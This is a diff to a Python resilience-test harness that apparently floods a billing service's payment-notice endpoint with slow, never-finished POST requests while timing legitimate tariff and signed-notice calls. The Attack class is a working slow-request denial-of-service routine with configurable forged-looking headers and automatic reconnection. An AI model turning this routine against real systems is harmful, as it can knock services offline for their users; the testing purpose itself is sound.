@@ -7,7 +7,7 @@ import json
 import time
 import uuid
 from collections import Counter
-from collections.abc import Sequence
+from collections.abc import Mapping, Sequence
 from contextlib import suppress
 from dataclasses import dataclass, field
 from datetime import UTC, datetime
@@ -69,11 +69,23 @@ class Attack:
     base: str
     heads: int
     addresses: Sequence[str]
+    path: str = "/v1/payment-notices"
+    headers: Mapping[str, str] = field(default_factory=dict)
+    """Of each head, as a signature that looks right."""
+
+    again: bool = True
+    """Whether what was answered or closed is opened again."""
+
     opened: int = 0
     answers: Counter[str] = field(default_factory=Counter)
 
+    @property
+    def unanswered(self) -> int:
+        """Heads that were taken and have no answer."""
+        return self.opened - self.answers.total()
+
     async def hold_open(self, seconds: float) -> None:
-        """Keep all of them open for so long; what is closed is opened again."""
+        """Keep all of them open for so long."""
         tasks = [asyncio.create_task(self._one(self.addresses[n % len(self.addresses)])) for n in range(self.heads)]
         try:
             await asyncio.sleep(seconds)
@@ -84,10 +96,9 @@ class Attack:
 
     async def _one(self, address: str) -> None:
         parts = urlsplit(self.base)
-        head = (
-            f"POST /v1/payment-notices HTTP/1.1\r\nHost: {parts.netloc}\r\nContent-Type: application/json\r\n"
-            f"Content-Length: {DECLARED_BYTES}\r\n\r\n{{"
-        ).encode()
+        lines = {"Host": parts.netloc, "Content-Type": "application/json", "Content-Length": str(DECLARED_BYTES)}
+        named = "".join(f"{name}: {value}\r\n" for name, value in {**lines, **self.headers}.items())
+        head = f"POST {self.path} HTTP/1.1\r\n{named}\r\n{{".encode()
         while True:
             try:
                 reading, writing = await asyncio.open_connection(parts.hostname, parts.port, local_addr=(address, 0))
@@ -104,6 +115,8 @@ class Attack:
                 self.answers["closed"] += 1
             finally:
                 writing.close()
+            if not self.again:
+                return
             await asyncio.sleep(AGAIN_SECONDS)
 
 
@@ -167,12 +180,18 @@ async def _behind_gateway(
 async def _run(
     target: Target, base: str, heads: int, addresses: Sequence[str], seconds: float
 ) -> tuple[Honest, Attack]:
-    honest, attack = Honest(), Attack(base, heads, addresses)
-    await asyncio.gather(attack.hold_open(seconds), _go_on(target, base, honest, seconds))
-    return honest, attack
+    attack = Attack(base, heads, addresses)
+    return await call_during(attack, target.secrets["simponi_callback_secret"], seconds), attack
 
 
-async def _go_on(target: Target, base: str, honest: Honest, seconds: float) -> None:
+async def call_during(attack: Attack, secret: str, seconds: float) -> Honest:
+    """Attack billing and call it honestly meanwhile, with notices signed by this secret; the answers to those calls."""
+    honest = Honest()
+    await asyncio.gather(attack.hold_open(seconds), _go_on(secret, attack.base, honest, seconds))
+    return honest
+
+
+async def _go_on(secret: str, base: str, honest: Honest, seconds: float) -> None:
     """Honest calls at their pace; each starts at its time, whether or not those before have ended."""
     async with asyncio.TaskGroup() as calls:
         begun = time.monotonic()
@@ -180,14 +199,14 @@ async def _go_on(target: Target, base: str, honest: Honest, seconds: float) -> N
             await asyncio.sleep(max(0.0, begun + number / HONEST_PER_SECOND - time.monotonic()))
             calls.create_task(_tariff(base, HONEST_ADDRESSES[number % len(HONEST_ADDRESSES)], honest))
             if number % (HONEST_PER_SECOND // NOTICES_PER_SECOND) == 0:
-                calls.create_task(_notice(target, base, honest))
+                calls.create_task(_notice(secret, base, honest))
 
 
 async def _tariff(base: str, address: str, honest: Honest) -> None:
     await _timed(honest, "tariff", address, "GET", f"{base}/v1/tariffs", {}, b"")
 
 
-async def _notice(target: Target, base: str, honest: Honest) -> None:
+async def _notice(secret: str, base: str, honest: Honest) -> None:
     """A signed notice on a code that no bill has: taken, and looked into later."""
     number = uuid.uuid4().int
     notice = {
@@ -200,7 +219,7 @@ async def _notice(target: Target, base: str, honest: Honest) -> None:
         "channel": "teller",
     }
     body = json.dumps(notice).encode()
-    headers = signed_headers("X-Simponi", "k1", target.secrets["simponi_callback_secret"], int(time.time()), body)
+    headers = signed_headers("X-Simponi", "k1", secret, int(time.time()), body)
     headers = {**headers, "Content-Type": "application/json"}
     await _timed(honest, "notice", AGENCY, "POST", f"{base}/v1/payment-notices", headers, body)
 
